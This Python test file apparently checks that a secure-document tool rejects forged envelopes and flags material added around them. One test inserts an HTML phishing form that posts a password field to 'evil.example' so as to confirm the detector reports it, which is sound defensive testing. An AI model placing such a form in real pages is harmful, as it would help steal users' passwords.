# SPDX-FileCopyrightText: The securedoc authors
# SPDX-License-Identifier: Apache-2.0
"""A recipient, who has the key, or with level none anybody, puts another text under a genuine header and hands the file on: nobody is told
that it is verified, and nothing of it is shown."""

import hashlib
import json
import sys
import unittest
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[1]), str(Path(__file__).resolve().parents[2] / "support")]
from cli_fixture import PASSWORD, SENDER, Base, fixture, json_lines, make_message  # noqa: E402
from forger import Forger, released_key  # noqa: E402

LEVELS = ("high", "medium", "none")


class ForgeryTest(Base):
    def forger(self, level):
        thief = self.person()
        path = self.envelope(thief, options=("--level", level))
        genuine = path.read_bytes()
        account = (thief.address, PASSWORD) if level != "none" else ()
        key = released_key(self.service.issuer, self.id_of(thief, path), *account)
        # The forger's tools are right: with what they have they can read.
        self.assertIn(b"Ihr Befund liegt bei", self.service.read_again(genuine, key))
        return thief, path, Forger(genuine, key)

    def test_command_line(self):
        for level in LEVELS:
            thief, path, forger = self.forger(level)
            options = ("--password-file", thief.password_file) if level != "none" else ()
            for name, content, code in (("payload", forger.with_payload(), "PayloadCorrupt"), ("list", forger.with_list(), "SignatureInvalid")):
                with self.subTest(level=level, forged=name):
                    path.write_bytes(content)
                    folder = thief.home / f"out-{level}-{name}"
                    done = thief.run("open", "--json", "--output", folder, *options, path)
                    self.assertNotEqual(done.returncode, 0)
                    self.assertEqual(json_lines(done.stdout)[-1]["error"]["code"], code, done.stdout)
                    self.assertFalse(folder.exists() and any(folder.iterdir()))
                    printed = thief.run("open", *options, path)
                    self.assertNotEqual(printed.returncode, 0)
                    self.assertNotIn(b"Pay the bill", done.stdout + done.stderr + printed.stdout + printed.stderr)
                    if name == "list":
                        report = json_lines(thief.run("inspect", "--json", path).stdout)[0]
                        self.assertEqual((report["verification"], report["exit_code"]), ("altered", 13))

    def test_second_reader(self):
        _, _, forger = self.forger("none")
        for content, code, stage in ((forger.with_payload(), "PayloadCorrupt", "open"), (forger.with_list(), "SignatureInvalid", "verify")):
            with self.assertRaises(fixture.second_reader.Refusal) as caught:
                self.service.read_again(content, forger.key)
            self.assertEqual((caught.exception.code, caught.exception.stage), (code, stage))

    def test_what_others_put_around_an_envelope_is_told(self):
        person = self.person()
        path = self.envelope(person)
        whole = path.read_bytes()
        self.assertEqual(json_lines(person.must("inspect", "--json", path))[0]["signals"], [])
        form = b'<form action="https://evil.example/"><input type=password name=p></form>'
        for content in (form + whole, whole + form):
            path.write_bytes(content)
            report = json_lines(person.must("inspect", "--json", path))[0]
            self.assertEqual({signal["name"] for signal in report["signals"]}, {"form_target", "password_field"})
            self.assertTrue(report["foreign_parts"])
            self.assertIn(b"added parts to it", person.run("inspect", path).stderr)

    def test_reply_goes_to_reply_to(self):
        person = self.person()
        message = make_message(person.address).replace(b"Subject:", b"Reply-To: Desk <desk@hospital.example>\nSubject:", 1)
        sealed = self.service.seal(message, SENDER, [person.address])
        path = person.home / "reply-to.html"
        path.write_bytes(sealed)
        claims = fixture.second_reader.Front(sealed).claims.all
        self.assertEqual(claims["reply_to"], [{"name": "Desk", "addr": "desk@hospital.example"}])
        self.assertEqual(claims["reply_key"]["kid"], self.service.secrets["reply_keys"][0]["id"])
        report = json_lines(person.must("inspect", "--json", path))[0]
        self.assertEqual(report["reply_to"], [{"name": "Desk", "address": "desk@hospital.example"}])

    def test_digests_are_those_of_the_payload(self):
        person = self.person()
        sealed = self.envelope(person, attachments=[("large.bin", bytes(range(256)) * 4000)]).read_bytes()
        front = fixture.second_reader.Front(sealed)
        self.assertEqual(hashlib.sha256(front.list).digest(), front.claims.digests)
        self.assertGreater(len(front.list), 4 * 32)


if __name__ == "__main__":
    unittest.main()
